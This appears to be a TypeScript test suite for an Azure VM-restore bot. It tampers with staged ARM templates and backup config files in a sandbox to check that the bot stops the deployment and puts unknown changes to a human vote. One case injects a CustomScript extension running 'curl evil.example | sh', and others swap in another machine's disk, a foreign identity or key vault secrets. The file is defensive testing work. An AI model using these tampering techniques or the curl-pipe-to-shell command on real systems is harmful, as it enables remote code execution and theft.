import assert from 'node:assert/strict';
import { after, afterEach, before, describe, it } from 'node:test';
import { cardAsText } from '../../sandbox/teams/card-text.ts';
import { resourceId } from '../../sandbox/world/arm-id.ts';
import { people } from '../../sandbox/world/people.ts';
import { prod } from '../../sandbox/world/places.ts';
import { over, type Saga, startSaga } from '../saga/saga.ts';
import { attackStaging, type Staged } from './staging-attack.ts';

let saga: Saga;
let hook: Saga['talk']['sandbox']['azure']['tap'];
before(async () => {
  saga = await startSaga();
  hook = saga.talk.sandbox.azure.tap;
});
after(() => saga?.close());
afterEach(() => {
  saga.talk.sandbox.azure.tap = hook;
});

const vmOf = ({ template }: Staged) => template.resources.at(-1) ?? assert.fail('no machine');
const nicOf = ({ template }: Staged) => template.resources[0] ?? assert.fail('no interface');
const payroll = resourceId(prod.id, 'rg-app', 'Microsoft.Compute/disks', 'payroll-osdisk');
let count = 0;

/** A restore whose files are changed on the way, until its card matches. */
async function attacked(
  change: (staged: Staged, id: string) => void | Promise<void>,
  vm = 'app-01',
  fits = over,
  by: Parameters<typeof attackStaging>[2] = 'key',
) {
  const copy = `${vm}-a${++count}`;
  const request = await saga.asked(`${vm} latest as ${copy} isolated`);
  const isDone = attackStaging(saga, (staged) => change(staged, request.id), by);
  await saga.approve(request);
  const end = await saga.until(request.card, fits);
  assert.ok(isDone(), 'the files were changed before they were read');
  return { ...request, copy, all: end.all };
}

/**
 * The files' content is approved by one more vote, and only then deployed.
 * @param found as the card of the vote names it
 */
async function voted(found: RegExp, change: (staged: Staged) => void | Promise<void>) {
  const { id, card, copy, all } = await attacked(change, 'app-01', /waits for one more vote/);
  assert.doesNotMatch(all, /possible attack/);
  const vote = await saga.talk.hears('ops', new RegExp(`${id} waits for one more vote`));
  assert.match(vote.all, found);
  assert.equal(saga.machine(copy), undefined);
  await saga.talk.click('approver-1', vote.id, 'approve');
  assert.match((await saga.until(card, over)).all, /✓ Done/);
  return saga.machine(copy) ?? assert.fail('no machine');
}

async function stopped(
  found: RegExp,
  change: (staged: Staged) => void | Promise<void>,
  by?: Parameters<typeof attackStaging>[2],
) {
  const { all, id, copy } = await attacked(change, undefined, undefined, by);
  assert.match(all, /✗ Failed/);
  assert.match(all, /possible attack/);
  assert.match(all, found);
  assert.equal(saga.machine(copy), undefined);
  const deployed = await saga.effects(new RegExp(`deployment strongroom-${id}-`));
  assert.deepEqual(deployed, [], 'nothing was deployed');
}

describe('a template that somebody with a key of the staging account wrote anew stops the step', () => {
  it('one more network interface', () =>
    stopped(/networkInterfaces extra/, ({ template }) => {
      template.resources.push({ ...nicOf({ template } as Staged), name: 'extra' });
    }));

  it('an extension that runs a script', () =>
    stopped(/virtualMachines\/extensions/, ({ template }) => {
      const settings = { commandToExecute: 'curl evil.example | sh' };
      const properties = { publisher: 'Microsoft.Azure.Extensions', type: 'CustomScript', settings };
      const name = "[concat(parameters('VirtualMachineName'), '/evil')]";
      const type = 'Microsoft.Compute/virtualMachines/extensions';
      template.resources.push({ type, apiVersion: '2023-03-01', name, location: 'westeurope', properties });
    }));

  it('a nested deployment, in whatever group', () =>
    stopped(/Microsoft\.Resources\/deployments/, ({ template }) => {
      const properties = { mode: 'Complete', template: { resources: [] } };
      const type = 'Microsoft.Resources/deployments';
      template.resources.push({ type, apiVersion: '2021-04-01', name: 'nested', resourceGroup: 'rg-app', properties });
    }));

  it('a secret of a key vault as a parameter', () =>
    stopped(/parameters\/Secret/, ({ template }) => {
      const keyVault = { id: resourceId(prod.id, 'rg-app', 'Microsoft.KeyVault/vaults', 'kv-prod') };
      template.parameters.Secret = { type: 'securestring', reference: { keyVault, secretName: 'bek' } };
    }));

  it('outputs', () =>
    stopped(/outputs/, ({ template }) => {
      template.outputs = { shown: { type: 'string', value: "[parameters('OSDiskName')]" } };
    }));

  it('an identity of somebody else', () =>
    stopped(/virtualMachines\/identity/, (staged) => {
      const id = resourceId(prod.id, 'rg-app', 'Microsoft.ManagedIdentity/userAssignedIdentities', 'owner');
      vmOf(staged).identity = { type: 'UserAssigned', userAssignedIdentities: { [id]: {} } };
    }));

  it('custom data', () =>
    stopped(/osProfile/, (staged) => {
      vmOf(staged).properties.osProfile = {
        computerName: 'x',
        customData: Buffer.from('#!/bin/sh').toString('base64'),
      };
    }));

  it('another disk', () =>
    stopped(/osDisk\/managedDisk\/id/, (staged) => {
      const { osDisk } = vmOf(staged).properties.storageProfile as { osDisk: { managedDisk: { id: string } } };
      osDisk.managedDisk.id = payroll;
    }));

  it('another network', () =>
    stopped(/subnet\/id/, (staged) => {
      const [first] = nicOf(staged).properties.ipConfigurations as { properties: { subnet: { id: string } } }[];
      assert.ok(first);
      first.properties.subnet.id = `${resourceId(prod.id, 'rg-app', 'Microsoft.Network/virtualNetworks', 'vnet-app')}/subnets/app`;
    }));
});

it('so does one that was written through a signed address, without key or role', () =>
  stopped(
    /networkInterfaces extra/,
    ({ template }) => {
      template.resources.push({ ...nicOf({ template } as Staged), name: 'extra' });
    },
    'signed address',
  ));

describe('disks that are not those of the restore stop the step', () => {
  it('the config names the disk of another machine', () =>
    stopped(/payroll-osdisk/, ({ config }) => {
      config['properties.storageProfile'].osDisk.managedDisk.id = payroll;
    }));

  it('a second disk that fits, with the tag of the job', () =>
    stopped(/osdisk-\S+ too many/, ({ config, jobId }) => {
      const { osDisk } = config['properties.storageProfile'];
      const disk = saga.world.resources.get(osDisk.managedDisk.id) ?? assert.fail('no disk');
      const id = osDisk.managedDisk.id.replace(/[^/]+$/, 'fits');
      saga.world.resources.put({ ...structuredClone(disk), id, name: 'fits', tags: { RSVaultBackup: jobId } });
      osDisk.managedDisk.id = id;
    }));

  it('one that was there before', () =>
    stopped(/is older than the restore/, ({ config }) => {
      const { osDisk } = config['properties.storageProfile'];
      const disk = saga.world.resources.get(osDisk.managedDisk.id) ?? assert.fail('no disk');
      disk.properties.timeCreated = new Date(saga.world.clock.now().getTime() - 86_400_000).toISOString();
    }));
});

it('a deployment that somebody else sent under the name that ours could have is not taken for it', async () => {
  const { all, copy } = await attacked(async (_, id) => {
    const { azure } = saga.talk.sandbox;
    const token = await azure.issueToken('https://management.azure.com', 'the Azure CLI', people.oncall.objectId);
    const name = `strongroom-${id}-deploy-vm-1`;
    const path = `${saga.target.targetResourceGroupId}/providers/Microsoft.Resources/deployments/${name}`;
    const template = { contentVersion: '1.0.0.0', resources: [] };
    const response = await fetch(`http://127.0.0.1:${azure.port}${path}?api-version=2021-04-01`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ properties: { mode: 'Incremental', template, parameters: {} } }),
    });
    assert.ok(response.ok, `${response.status}`);
  });
  assert.match(all, /✓ Done/);
  assert.equal(saga.machine(copy)?.properties.provisioningState, 'Succeeded');
});

describe('what is only unknown is put to people, and never dropped', () => {
  it('a property that Microsoft may have added', async () => {
    await voted(/virtualMachines\/properties\/additionalCapabilities[\s\S]*ultraSSDEnabled/, (staged) => {
      vmOf(staged).properties.additionalCapabilities = { ultraSSDEnabled: true };
    });
  });

  it('a disk without the tag of its job', async () => {
    await voted(/tags\/RSVaultBackup/, ({ config }) => {
      const { osDisk } = config['properties.storageProfile'];
      const disk = saga.world.resources.get(osDisk.managedDisk.id) ?? assert.fail('no disk');
      disk.tags = {};
    });
  });
});

it('what was found stands in the audit', async () => {
  const { id } = await attacked(({ template }) => {
    template.outputs = { shown: { type: 'string', value: 'x' } };
  });
  const said = await saga.talk.ask('platform', 'personal-platform', `audit ${id}`, /failed/);
  assert.match(said.all, /outputs/);
});

it('market-01, of an image of the Marketplace, is made with its plan and accelerated networking', async () => {
  const request = await saga.asked('market-01 latest as market-copy isolated');
  await saga.approve(request);
  assert.match((await saga.until(request.card, over)).all, /✓ Done/);
  assert.deepEqual(saga.machine('market-copy')?.plan, {
    name: 'byol',
    publisher: 'contoso-appliances',
    product: 'gateway',
  });
  const nic = `${saga.target.targetResourceGroupId}/providers/Microsoft.Network/networkInterfaces/market-copy-nic`;
  assert.equal(saga.world.resources.get(nic)?.properties.enableAcceleratedNetworking, true);
});

describe('a file in the staging account that stays unreadable', () => {
  const config = /^config-.*\.json$/;

  /** Rewrites Azure Backup's file as soon as the bot reads it. */
  function overwrite(content: string): void {
    const { azure, world } = saga.talk.sandbox;
    azure.tap = async (call) => {
      const account = call.host.split('.')[0] ?? '';
      const [, container = '', blob = ''] = call.path.split('?')[0]?.split('/') ?? [];
      if (call.moment === 'arrival' && call.method === 'GET' && /\.blob\./.test(call.host) && config.test(blob)) {
        const [contentType, writtenAt] = ['application/json', world.clock.now()];
        world.blobs.put(account, container, blob, { content: Buffer.from(content), contentType, writtenAt });
      }
      return hook ? hook(call) : 'go on';
    };
  }

  it('as it is no JSON: the step fails, says which file, and can be tried again', async () => {
    overwrite('no JSON at all');
    const request = await saga.asked('app-01 latest as app-words isolated');
    await saga.approve(request);
    const end = await saga.until(request.card, over);
    assert.match(end.all, /✗ Failed[\s\S]*The file config-\S+ in the staging account isn't what Azure Backup writes/);
    assert.match(cardAsText(end.card ?? assert.fail(end.text), 'all'), new RegExp(`retry ${request.id}`));
    assert.equal(saga.machine('app-words'), undefined);
  });

  function raiseFirewall() {
    const code = 'AuthorizationFailure';
    const message = 'This request is not authorized to perform this operation.';
    return saga.talk.api.fault({ match: { method: 'GET', path: '/config-' }, do: 'error', status: 403, code, message });
  }

  it('behind a firewall: the step fails with what Azure says, and goes on with retry once it is open', async () => {
    await raiseFirewall();
    const request = await saga.asked('app-01 latest as app-wall isolated');
    await saga.approve(request);
    const end = await saga.until(request.card, over);
    assert.match(end.all, /✗ Failed/);
    assert.match(end.all, /AuthorizationFailure|firewall/i);
    await saga.talk.api.clearFaults();
    assert.match((await saga.again(end, 'oncall', `retry ${request.id}`)).all, /✓ Done/);
  });

  it('behind a firewall once the machine is deployed: retry looks at what is there, and deploys nothing more', async () => {
    const { azure } = saga.talk.sandbox;
    azure.tap = async (call) => {
      if (call.moment === 'arrival' && call.method === 'PUT' && /\/deployments\/strongroom-/.test(call.path))
        await raiseFirewall();
      return hook ? hook(call) : 'go on';
    };
    const request = await saga.asked('app-01 latest as app-wall-after isolated');
    await saga.approve(request);
    const end = await saga.until(request.card, over);
    assert.match(end.all, /✗ Failed/);
    await saga.talk.api.clearFaults();
    assert.match((await saga.again(end, 'oncall', `retry ${request.id}`)).all, /✓ Done/);
    assert.equal((await saga.effects(new RegExp(`deployment strongroom-${request.id}-`))).length, 1);
  });
});
